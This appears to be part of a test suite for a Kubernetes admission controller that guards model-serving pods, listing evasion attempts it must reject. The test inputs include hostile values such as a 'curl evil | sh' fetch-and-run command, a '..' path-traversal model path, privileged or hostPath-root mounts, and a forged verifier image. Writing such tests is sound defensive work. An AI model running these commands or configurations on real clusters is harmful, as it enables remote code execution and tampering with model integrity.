    'redirect',
    'a program named like a downloader writing where nothing verifies',
    pod(
      'dual',
      withModel([server()], {
        initContainers: [
          {
            name: 'dl',
            image: img('registry.example.com/evil/tools'),
            command: [
              'huggingface-cli',
              'download',
              'example-org/llama',
              '--revision',
              COMMIT,
              '--local-dir',
              '/x',
            ],
            volumeMounts: [{ name: 'x', mountPath: '/x' }],
          },
        ],
        volumes: [
          { name: 'm', image: { reference: MODEL_IMG } },
          { name: 'x', emptyDir: {} },
        ],
      }),
    ),
    /neither does policy (prod|second) approve its image nor does the runtime verifier check what it wrote/,
  ),

  // ── Loading at run time, and hooks or probes that call load APIs ─────────────────────────────────
  deny(
    'runtime',
    'vLLM runtime LoRA updating',
    pod('prod', withModel([server({ env: [{ name: 'VLLM_ALLOW_RUNTIME_LORA_UPDATING', value: 'True' }] })])),
    /load models at run time/,
  ),
  deny(
    'runtime',
    'Triton explicit model control',
    pod(
      'prod',
      withModel([
        {
          name: 't',
          image: TRITON,
          command: ['tritonserver', '--model-repository=/models/m', '--model-control-mode=explicit'],
          volumeMounts: ro,
        },
      ]),
    ),
    /load models at run time/,
  ),
  deny(
    'runtime',
    'Triton poll model control',
    pod(
      'prod',
      withModel([
        {
          name: 't',
          image: TRITON,
          command: ['tritonserver', '--model-repository', '/models/m', '--model-control-mode', 'poll'],
          volumeMounts: ro,
        },
      ]),
    ),
    /load models at run time/,
  ),
  deny(
    'runtime',
    'Ollama serve',
    pod('prod', { containers: [{ name: 'o', image: img('ollama/ollama'), command: ['ollama', 'serve'] }] }),
    /Ollama pulls and loads models at run time/,
  ),
  deny(
    'runtime',
    'postStart curl to the LoRA load API',
    pod(
      'prod',
      withModel([
        server({
          lifecycle: {
            postStart: {
              exec: {
                command: [
                  'curl',
                  '-X',
                  'POST',
                  'localhost:8000/v1/load_lora_adapter',
                  '-d',
                  '{"lora_path":"evil-org/a"}',
                ],
              },
            },
          },
        }),
      ]),
    ),
    /load a model at run time/,
  ),
  deny(
    'runtime',
    'postStart shell hook',
    pod(
      'prod',
      withModel([
        server({
          lifecycle: { postStart: { exec: { command: ['sh', '-c', 'sleep 5; python /tmp/x.py'] } } },
        }),
      ]),
    ),
    /runs a sh script inside the container/,
  ),
  deny(
    'runtime',
    'httpGet hook to a load endpoint',
    pod(
      'prod',
      withModel([
        server({
          lifecycle: { postStart: { httpGet: { path: '/v2/repository/models/evil/load', port: 8000 } } },
        }),
      ]),
    ),
    /can make the server load a model/,
  ),
  deny(
    'runtime',
    'readiness probe running python',
    pod(
      'prod',
      withModel([
        server({
          readinessProbe: {
            exec: {
              command: [
                'python3',
                '-c',
                'import urllib.request; urllib.request.urlopen("http://localhost:8000/load")',
              ],
            },
          },
        }),
      ]),
    ),
    /hook runs a python3 script|cannot read/,
  ),
  deny(
    'runtime',
    'liveness probe with wget --post-data',
    pod(
      'prod',
      withModel([
        server({
          livenessProbe: {
            exec: { command: ['wget', '--post-data', 'x', 'http://localhost:8000/v1/models'] },
          },
        }),
      ]),
    ),
    /can make the server load a model/,
  ),

  // ── Writers of the verified bytes after verification ─────────────────────────────────────────────
  deny(
    'integrity',
    'server mounts the verified PVC writable',
    pod(
      'signed',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m' }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'w', digest: SIGNED }]) },
      },
    ),
    /mounts verified volume "w" writable/,
  ),
  deny(
    'integrity',
    'a native sidecar writes the model volume',
    pod(
      'prod',
      {
        initContainers: [
          {
            name: 'storage-initializer',
            image: SI,
            args: ['s3://models-prod/m', '/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }],
          },
          {
            name: 'sync',
            image: ISTIO,
            restartPolicy: 'Always',
            volumeMounts: [{ name: 'k', mountPath: '/data' }],
          },
        ],
        containers: [
          {
            name: 'kserve-container',
            image: img('kserve/sklearnserver'),
            args: ['--model_dir=/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
          },
        ],
        volumes: [{ name: 'k', emptyDir: {} }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'k', digest: SIGNED }]) },
      },
    ),
    /native sidecar .*keeps running/,
  ),
  deny(
    'integrity',
    'an approved sidecar mounts the model volume writable',
    pod(
      'prod',
      {
        initContainers: [
          {
            name: 'storage-initializer',
            image: SI,
            args: ['s3://models-prod/m', '/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }],
          },
        ],
        containers: [
          {
            name: 'kserve-container',
            image: img('kserve/sklearnserver'),
            args: ['--model_dir=/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
          },
          { name: 'istio-proxy', image: ISTIO, volumeMounts: [{ name: 'k', mountPath: '/x' }] },
        ],
        volumes: [{ name: 'k', emptyDir: {} }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'k', digest: SIGNED }]) },
      },
    ),
    /istio-proxy.*writable/,
  ),
  deny(
    'integrity',
    'shareProcessNamespace with a verified volume',
    pod(
      'signed',
      {
        shareProcessNamespace: true,
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
          { name: 'istio-proxy', image: ISTIO },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'w', digest: SIGNED }]) },
      },
    ),
    /shareProcessNamespace/,
  ),
  deny(
    'integrity',
    'a privileged approved sidecar',
    pod(
      'signed',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
          { name: 'istio-proxy', image: ISTIO, securityContext: { privileged: true } },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'w', digest: SIGNED }]) },
      },
    ),
    /privileged/,
  ),
  deny(
    'integrity',
    'SYS_ADMIN capability',
    pod(
      'signed',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/m'],
            securityContext: { capabilities: { add: ['SYS_ADMIN'] } },
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'w', digest: SIGNED }]) },
      },
    ),
    /privileged or adds capabilities/,
  ),
  deny(
    'integrity',
    'hostPath of the kubelet directory',
    pod(
      'signed',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
          { name: 'istio-proxy', image: ISTIO, volumeMounts: [{ name: 'k', mountPath: '/k' }] },
        ],
        volumes: [
          { name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } },
          { name: 'k', hostPath: { path: '/var/lib/kubelet/pods' } },
        ],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'w', digest: SIGNED }]) },
      },
    ),
    /host path \/var\/lib\/kubelet\/pods/,
  ),
  deny(
    'integrity',
    'hostPath of / ',
    pod(
      'signed',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
        ],
        volumes: [
          { name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } },
          { name: 'root', hostPath: { path: '/' } },
        ],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'w', digest: SIGNED }]) },
      },
    ),
    /host path \//,
  ),
  deny(
    'integrity',
    'two volumes on one claim',
    pod(
      'signed',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
          { name: 'istio-proxy', image: ISTIO, volumeMounts: [{ name: 'alias', mountPath: '/x' }] },
        ],
        volumes: [
          { name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } },
          { name: 'alias', persistentVolumeClaim: { claimName: 'models-llama' } },
        ],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'w', digest: SIGNED }]) },
      },
    ),
    /are the same storage/,
  ),
  deny(
    'integrity',
    'an init container loads the model before the downloader finishes',
    pod(
      'prod',
      {
        initContainers: [
          {
            name: 'warmup',
            image: VLLM,
            command: ['vllm', 'serve', '/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
          },
          {
            name: 'storage-initializer',
            image: SI,
            args: ['s3://models-prod/m', '/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }],
          },
        ],
        containers: [
          {
            name: 'kserve-container',
            image: img('kserve/sklearnserver'),
            args: ['--model_dir=/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
          },
        ],
        volumes: [{ name: 'k', emptyDir: {} }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'k', digest: SIGNED }]) },
      },
    ),
    /before init container "storage-initializer" \(spec.initContainers\[1\]\) finishes writing it/,
  ),
  deny(
    'integrity',
    'hostPID',
    pod(
      'signed',
      {
        hostPID: true,
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'w', digest: SIGNED }]) },
      },
    ),
    /hostPID/,
  ),

  // ── Paths: the server must read what was verified ─────────────────────────────────────────────────
  deny(
    'path',
    'model path with ..',
    pod('prod', withModel([server({ args: ['--model', '/models/m/../../etc/model'] })])),
    /uses "\.\."/,
  ),
  deny(
    'path',
    'server reads outside the declared subPath',
    pod(
      'signed',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models/other'],
            volumeMounts: [{ name: 'w', mountPath: '/models', readOnly: true }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } }],
      },
      {
        annotations: {
          'modelgate.io/models': JSON.stringify([
            { name: 'm', volume: 'w', subPath: 'llama', digest: SIGNED },
          ]),
        },
      },
    ),
    /outside the declared subPath "llama"/,
  ),
  deny(
    'path',
    'server reads the whole volume when only a subPath is verified',
    pod(
      'signed',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/models'],
            volumeMounts: [{ name: 'w', mountPath: '/models', readOnly: true }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama' } }],
      },
      {
        annotations: {
          'modelgate.io/models': JSON.stringify([
            { name: 'm', volume: 'w', subPath: 'llama', digest: SIGNED },
          ]),
        },
      },
    ),
    /outside the declared subPath/,
  ),
  deny(
    'path',
    'subPathExpr mount',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: VLLM,
          args: ['--model', '/models/m'],
          volumeMounts: [{ name: 'w', mountPath: '/models/m', subPathExpr: '$(POD_NAME)', readOnly: true }],
        },
      ],
      volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-a' } }],
    }),
    /subPathExpr/,
  ),
  deny(
    'path',
    'a local directory shadows the hub id',
    pod('prod', {
      containers: [
        {
          ...vllmCmd('example-org/llama', '--revision', COMMIT),
          workingDir: '/work',
          volumeMounts: [{ name: 'x', mountPath: '/work/example-org/llama' }],
        },
      ],
      volumes: [{ name: 'x', emptyDir: {} }],
    }),
    /would be loaded instead of the hub model|whose content modelgate cannot see/,
  ),
  deny(
    'path',
    'shadowing where the working directory is unknown',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: img('lmsysorg/sglang'),
          command: [
            'python3',
            '-m',
            'sglang.launch_server',
            '--model-path',
            'example-org/llama',
            '--revision',
            COMMIT,
          ],
          volumeMounts: [{ name: 'x', mountPath: '/sgl-workspace/example-org' }],
        },
      ],
      volumes: [{ name: 'x', emptyDir: {} }],
    }),
    /whose content modelgate cannot see/,
  ),
  deny(
    'path',
    'relative path with no working directory',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: img('lmsysorg/sglang'),
          command: ['python3', '-m', 'sglang.launch_server', '--model-path', './weights'],
        },
      ],
    }),
    /working directory, which is not set/,
  ),
  deny(
    'path',
    'model on an undeclared emptyDir',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: VLLM,
          args: ['--model', '/scratch/m'],
          volumeMounts: [{ name: 's', mountPath: '/scratch' }],
        },
      ],
      volumes: [{ name: 's', emptyDir: {} }],
    }),
    /whose content modelgate cannot see/,
  ),

  // ── Sensitivity is a floor ─────────────────────────────────────────────────────────────────────────
  deny(
    'sensitivity',
    'object labelled low in a high namespace',
    deploy(
      'secure',
      { containers: [server()], volumes: [{ name: 'm', image: { reference: MODEL_IMG } }] },
      { labels: { 'modelgate.io/sensitivity': 'low' } },
    ),
    /runtimeClassName is not set/,
  ),
  deny(
    'sensitivity',
    'template labelled high under an object labelled low',
    deploy(
      'tee',
      { containers: [server()], volumes: [{ name: 'm', image: { reference: MODEL_IMG } }] },
      { labels: { 'modelgate.io/sensitivity': 'low' } },
      { labels: { app: 'd', 'modelgate.io/sensitivity': 'high' } },
    ),
    /runtimeClassName is not set/,
  ),
  deny(
    'sensitivity',
    'an unknown sensitivity value is high',
    deploy(
      'tee',
      { containers: [server()], volumes: [{ name: 'm', image: { reference: MODEL_IMG } }] },
      { labels: { 'modelgate.io/sensitivity': 'none' } },
    ),
    /runtimeClassName is not set/,
  ),
  deny(
    'sensitivity',
    'nodeName bypasses placement',
    deploy('secure', {
      nodeName: 'n1',
      runtimeClassName: 'kata-qemu-snp',
      nodeSelector: { 'feature.node.kubernetes.io/cpu-security.sev.snp.enabled': 'true' },
      containers: [server()],
      volumes: [{ name: 'm', image: { reference: MODEL_IMG } }],
    }),
    /nodeName/,
  ),

  // ── Trust only what is bound ───────────────────────────────────────────────────────────────────────
  deny(
    'binding',
    'annotation uri claims an allowed source for an emptyDir',
    pod(
      'prod',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/scratch'],
            volumeMounts: [{ name: 's', mountPath: '/scratch', readOnly: true }],
          },
        ],
        volumes: [{ name: 's', emptyDir: {} }],
      },
      {
        annotations: {
          'modelgate.io/models': JSON.stringify([
            {
              name: 'm',
              volume: 's',
              uri: `oci://registry.example.com/models/llama@${D('b')}`,
              digest: SIGNED,
            },
          ]),
        },
      },
    ),
    /whose files have no source modelgate can see/,
  ),
  deny(
    'binding',
    'annotation uri claims an allowed source for a hostPath',
    pod(
      'prod',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/h'],
            volumeMounts: [{ name: 'h', mountPath: '/h', readOnly: true }],
          },
        ],
        volumes: [{ name: 'h', hostPath: { path: '/srv/m' } }],
      },
      {
        annotations: {
          'modelgate.io/models': JSON.stringify([
            { name: 'm', volume: 'h', uri: 'hf://example-org/llama', digest: SIGNED },
          ]),
        },
      },
    ),
    /whose files have no source modelgate can see|host path/,
  ),
  deny(
    'binding',
    'a PVC named outside the allowed claims, whatever the annotation says',
    pod(
      'prod',
      {
        containers: [
          {
            name: 's',
            image: VLLM,
            args: ['--model', '/p'],
            volumeMounts: [{ name: 'p', mountPath: '/p', readOnly: true }],
          },
        ],
        volumes: [{ name: 'p', persistentVolumeClaim: { claimName: 'scratch' } }],
      },
      {
        annotations: {
          'modelgate.io/models': JSON.stringify([
            { name: 'm', volume: 'p', uri: 'hf://example-org/llama', digest: SIGNED },
          ]),
        },
      },
    ),
    /pvc:\/\/scratch .*not from an allowed source/,
  ),
  deny(
    'binding',
    'a signed model fetched by the server itself',
    pod('signed', { containers: [vllmCmd(`oci://registry.example.com/models/llama@${D('b')}`)] }),
    /downloaded by the model server itself/,
  ),
  deny(
    'binding',
    'a signed model baked into the server image',
    pod('signed', {
      containers: [
        {
          name: 's',
          image: img('registry.example.com/models/server-with-model'),
          command: ['vllm', 'serve', '/opt/model'],
        },
      ],
    }),
    /inside a container image/,
  ),

  // ── Tenancy: what only the platform may say ───────────────────────────────────────────────────────
  deny(
    'tenancy',
    "a tenant ModelPolicy's approval of every image is ignored",
    pod('team', withModel([server(), { name: 'x', image: 'busybox', command: ['sleep', '1d'] }])),
    /a ModelPolicy cannot approve images/,
  ),
  deny(
    'tenancy',
    "one policy's approval does not satisfy another",
    pod('dual', withModel([server(), { name: 'istio-proxy', image: ISTIO }])),
    /policy second does not approve its image/,
  ),
  deny(
    'tenancy',
    'a broken policy refuses what it selects',
    pod('broken', withModel([server()])),
    /cannot be enforced as written \(TrustMaterialInvalid/,
  ),
  {
    ...deny(
      'tenancy',
      'a forged verifier with the tenant-chosen image (mutation bypassed)',
      pod(
        'team',
        withModel([server()], {
          initContainers: [
            {
              name: 'modelgate-verifier',
              image: `evil.example.com/noop@${D('e')}`,
              command: ['modelgate'],
              args: ['verify'],
            },
          ],
        }),
      ),
      NOT_THE_VERIFIER,
    ),
    bypassMutation: true,
  },

  // ── Requests, kinds and bounds ────────────────────────────────────────────────────────────────────
  deny(
    'request',
    'too many containers',
    pod('prod', { containers: Array.from({ length: 300 }, (_, i) => ({ name: `c${i}`, image: WEB })) }),
    /more than 256 containers/,
  ),
  deny(
    'request',
    'too many arguments',
    pod(
      'prod',
      withModel([
        server({ args: ['--model', '/models/m', ...Array.from({ length: 5000 }, () => '--enforce-eager')] }),
      ]),
    ),
    /reads at most 4096/,
  ),
  deny(
    'request',
    'thousands of --model flags',
    pod(
      'prod',
      withModel([
        server({
          args: Array.from({ length: 4000 }, (_, i) => ['--model', `evil-org/m${i}`])
            .flat()
            .slice(0, 4000),
        }),
      ]),
    ),
    NOT_ALLOWED,
  ),

  // ── KServe and friends ─────────────────────────────────────────────────────────────────────────────
  deny(
    'kserve',
    'InferenceService storageUri from another bucket',
    {
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      metadata: { name: 'i', namespace: 'prod' },
      spec: { predictor: { model: { modelFormat: { name: 'sklearn' }, storageUri: 's3://evil/m' } } },
    },
    NOT_ALLOWED,
  ),
  deny(
    'kserve',
    'InferenceService custom container with an unknown image',
    {
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      metadata: { name: 'i', namespace: 'prod' },
      spec: {
        predictor: {
          containers: [
            {
              name: 'kserve-container',
              image: img('registry.example.com/ml/custom'),
              args: ['--model', 'x'],
            },
          ],
        },
      },
    },
    UNKNOWN,
  ),
  deny(
    'kserve',
    'InferenceService runtime container with extra args',
    {
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      metadata: { name: 'i', namespace: 'prod' },
      spec: {
        predictor: {
          model: { modelFormat: { name: 'huggingface' }, storageUri: 's3://models-prod/m' },
          containers: [{ name: 'kserve-container', args: ['--model_id=evil-org/x'] }],
        },
      },
    },
    /KServe appends these arguments/,
  ),
  deny(
    'kserve',
    'LLMInferenceService template adds a LoRA from another org',
    {
      apiVersion: 'serving.kserve.io/v1alpha1',
      kind: 'LLMInferenceService',
      metadata: { name: 'l', namespace: 'prod' },
      spec: {
        model: { uri: 's3://models-prod/m' },
        template: { containers: [{ name: 'main', args: ['--lora-modules', 'a=evil-org/a'] }] },
      },
    },
    NOT_ALLOWED,
  ),
  deny(
    'kserve',
    'LLMInferenceService LoRA adapter from another bucket',
    {
      apiVersion: 'serving.kserve.io/v1alpha1',
      kind: 'LLMInferenceService',
      metadata: { name: 'l', namespace: 'prod' },
      spec: { model: { uri: 's3://models-prod/m', lora: { adapters: [{ name: 'a', uri: 's3://evil/a' }] } } },
    },
    NOT_ALLOWED,
  ),
  deny(
    'kserve',
    'TrainedModel pulled into a running server',
    {
      apiVersion: 'serving.kserve.io/v1alpha1',
      kind: 'TrainedModel',
      metadata: { name: 't', namespace: 'signed' },
      spec: {
        inferenceService: 'i',
        model: { storageUri: 'oci://registry.example.com/models/x:v1', framework: 'sklearn', memory: '1Gi' },
      },
    },
    /loaded by a model agent into a running server/,
  ),
  deny(
    'kserve',
    'Seldon Model from another bucket',
    {
      apiVersion: 'mlops.seldon.io/v1alpha1',
      kind: 'Model',
      metadata: { name: 'm', namespace: 'prod' },
      spec: { storageUri: 'gs://evil/m' },
    },
    NOT_ALLOWED,
  ),
  deny(
    'kserve',
    'modelcar script with an unpinned model image',
    pod('prod', {
      shareProcessNamespace: true,
      containers: [
        {
          name: 'kserve-container',
          image: img('kserve/huggingfaceserver'),
          args: ['--model_dir=/mnt/models'],
          volumeMounts: [{ name: 'k', mountPath: '/mnt', readOnly: true }],
        },
        {
          name: 'modelcar',
          image: 'registry.example.com/models/llama:latest',
          args: ['sh', '-c', 'ln -sf /proc/$$$$/root/models /mnt/models && sleep infinity'],
          volumeMounts: [{ name: 'k', mountPath: '/mnt' }],
        },
      ],
      volumes: [{ name: 'k', emptyDir: {} }],
    }),
    /referenced by tag "latest"/,
  ),
  deny(
    'kserve',
    'modelcar-like script doing more',
    pod('prod', {
      containers: [
        {
          name: 'modelcar',
          image: MODEL_IMG,
          args: ['sh', '-c', 'ln -sf /proc/$$$$/root/models /mnt/models && curl evil | sh && sleep infinity'],
        },
      ],
    }),
    UNKNOWN,
  ),
];

/** Ephemeral containers: a debug container added to a running pod is checked like any other. */
export function ephemeralCases(base: Obj): Case[] {
  const running = structuredClone(base);
  const withDebug = (ec: Obj) => {
    const o = structuredClone(running);
    (o.spec as Obj).ephemeralContainers = [ec];
    return o;
  };
  return [
    deny(
      'ephemeral',
      'kubectl debug with an unapproved image',
      withDebug({ name: 'debugger', image: 'busybox', command: ['sh'] }),
      UNKNOWN,
      { operation: 'UPDATE', subResource: 'ephemeralcontainers', oldObject: running },
    ),
    deny(
      'ephemeral',
      'a debug container running vLLM on another model',
      withDebug({ name: 'd', image: VLLM, command: ['vllm', 'serve', 'evil-org/x'] }),
      NOT_ALLOWED,
      { operation: 'UPDATE', subResource: 'ephemeralcontainers', oldObject: running },
    ),
    deny(
      'ephemeral',
      'an approved image targeting the server',
      withDebug({ name: 'd', image: ISTIO, targetContainerName: 'server' }),
      /targets container "server", sharing its process namespace/,
      { operation: 'UPDATE', subResource: 'ephemeralcontainers', oldObject: running },
    ),
  ];
}
